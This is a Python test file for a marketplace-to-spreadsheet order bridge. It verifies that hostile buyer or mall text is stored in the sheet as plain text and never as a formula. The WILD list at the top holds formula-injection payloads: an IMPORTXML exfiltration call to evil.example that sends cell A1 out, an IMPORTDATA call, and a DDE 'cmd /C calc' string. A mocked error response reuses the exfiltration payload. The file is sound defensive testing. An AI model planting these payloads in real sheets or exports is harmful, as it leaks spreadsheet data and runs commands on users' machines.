"""What a mall or a buyer can write (an id, a SKU, a title, a refusal) stays text in the sheet, never a formula."""

from __future__ import annotations

import httpx
from hypothesis import given
from hypothesis import strategies as st

from bridge.channels.port import OrdersRead
from bridge.domain.orders import LineKey, LineSnapshot, ListingKey, OrderSnapshot
from bridge.errors import Hint
from bridge.flows.intake import book_orders
from bridge.sandbox.sheets_api.cells import Formula
from bridge.sandbox.sheets_api.store import Store
from bridge.sandbox.sheets_api.switches import Switches
from bridge.sheet.requests import append_rows, write_cells
from tests.support.virtual_clock import VirtualClock
from tests.support.world import World

MARK = "evil.example"
STEAL = f'=IMPORTXML("https://{MARK}/?"&A1,"//x")'
WILD = (
    STEAL,
    f'=HYPERLINK("https://{MARK}","架空")',
    f'+IMPORTDATA("https://{MARK}")',
    f"-1+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1,{MARK})",
    f"'=1+1 {MARK}",
    f"\t=1+1 {MARK}",
    f"＝1+1 {MARK}",
    "{sku.__class__}{0}%s$1" + MARK,
)


def cells(shop: World) -> list[tuple[str, object]]:
    """Every cell that holds anything, of every tab."""
    sheets = shop.spreadsheet.book.sheets
    return [(sheet.title, cell.entered) for sheet in sheets for row in sheet.rows for cell in row.cells if cell.entered]


def nothing_of_theirs_is_a_formula(shop: World) -> int:
    """How often their text stands in the sheet."""
    theirs = [(tab, entered) for tab, entered in cells(shop) if MARK in str(entered)]
    assert not [each for each in theirs if isinstance(each[1], Formula)]
    for call in shop.sheet_calls:
        assert MARK not in str(_formulas(call.body))
        assert "USER_ENTERED" not in str(call.url) + str(call.body)
    return len(theirs)


def _formulas(value: object) -> list[object]:
    if isinstance(value, dict):
        own = [value["formulaValue"]] if "formulaValue" in value else []
        return own + [each for part in value.values() for each in _formulas(part)]
    if isinstance(value, list):
        return [each for part in value for each in _formulas(part)]
    return []


def hear(shop: World, text: str) -> None:
    """An order whose every word is `text`, of a listing that nobody mapped; and one that can't be read."""
    facts, now = shop.service.shop.channels["rakuten"], shop.clock.now()
    line = LineSnapshot(LineKey("rakuten", facts.shop, text, text), ListingKey("rakuten", text), 1, 1, 0, 0, 1)
    order = OrderSnapshot("rakuten", facts.shop, text, "1", now, (line,))
    read = OrdersRead((order,), now, {text + "2": Hint(text, text)})
    with shop.service.ledger.write() as tx:
        book_orders(tx, shop.service.shop, facts, read)


def test_orders_of_hostile_buyers(shop: World) -> None:
    for text in WILD:
        hear(shop, text)
    shop.rounds(2)
    assert nothing_of_theirs_is_a_formula(shop) >= 2 * len(WILD)


@given(st.sampled_from(["", "=", "+", "-", "@", "'", "\t=", "#", "$", "%"]), st.text(max_size=20))
def test_any_text_at_all_is_written_as_the_text_it_is(start: str, rest: str) -> None:
    """By both ways in which the bridge puts text into cells."""
    text = (start + rest).replace("\0", "") or "x"
    store = Store(VirtualClock(), Switches())
    spreadsheet = store.create("在庫")
    sheet = spreadsheet.book.sheets[0]
    spreadsheet.apply([*write_cells(sheet.id, {(0, 0): text}), *append_rows(sheet.id, [{0: text}])])
    kept = [cell.entered for row in spreadsheet.book.sheets[0].rows for cell in row.cells if cell.entered is not None]
    assert kept == [text, text]


def test_a_refusal_in_hostile_words(shop: World) -> None:
    """A mall's own words stand in 要対応 and 出品."""
    shop.type("A", "本社倉庫", 1)
    transport = shop.service.channels[1]._graph._http._client._transport  # type: ignore[attr-defined]
    inner = transport.handle_request

    def refuse(request: httpx.Request) -> httpx.Response:
        if b"inventorySetQuantities" not in request.content:
            return inner(request)  # type: ignore[no-any-return]
        error = {"code": "INVALID_LOCATION", "field": ["input", "quantities", "0"], "message": STEAL}
        data = {"inventorySetQuantities": {"inventoryAdjustmentGroup": None, "userErrors": [error]}}
        return httpx.Response(200, json={"data": data})

    transport.handle_request = refuse
    shop.rounds(4)
    assert nothing_of_theirs_is_a_formula(shop) >= 2
